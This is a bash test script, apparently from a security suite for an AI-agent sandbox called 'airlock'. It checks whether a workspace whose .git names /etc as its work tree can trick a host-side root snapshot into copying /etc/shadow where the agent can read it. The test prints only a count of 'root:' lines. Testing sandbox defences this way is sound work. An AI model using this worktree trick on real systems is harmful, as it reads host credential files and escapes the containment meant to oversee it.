#!/bin/bash
# 02 with a real host path: the folder's .git names /etc as its work tree.
# The host-run snapshot script (as root) stages all of /etc into the copy
# the agent owns; hide globs (.env, *.pem, *.key, id_*) do not cover
# /etc/shadow. Can the agent read the host's /etc/shadow (only whether a
# "root:" line arrives is printed)?
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
. "$(dirname "$0")/../lib.sh"
[ -r /etc/shadow ] || { echo "setup: /etc/shadow not readable here"; exit 2; }
mkdir -p $T/ws && cd $T/ws && git init -q . && git config core.worktree /etc && echo hi > README || exit 2
write_sandbox clone
U=; for i in 1 2 3; do airlock up --yes >"$T/up.log" 2>&1 && { U=1; break; }; sleep 1; done; [ -n "$U" ] || { cat $T/up.log; exit 2; }
airlock exec $N -- sh -c 'cd /workspace && export GIT_DIR=.git GIT_WORK_TREE=/workspace; echo "files in base: $(git ls-tree -r refs/airlock/base | wc -l)"; git show refs/airlock/base:shadow 2>/dev/null | grep -c "^root:"' >$T/agent.out 2>&1
cat $T/agent.out
[ "$(tail -n 1 $T/agent.out)" -ge 1 ] 2>/dev/null && { echo "agent read the host's /etc/shadow"; R=1; }
finish
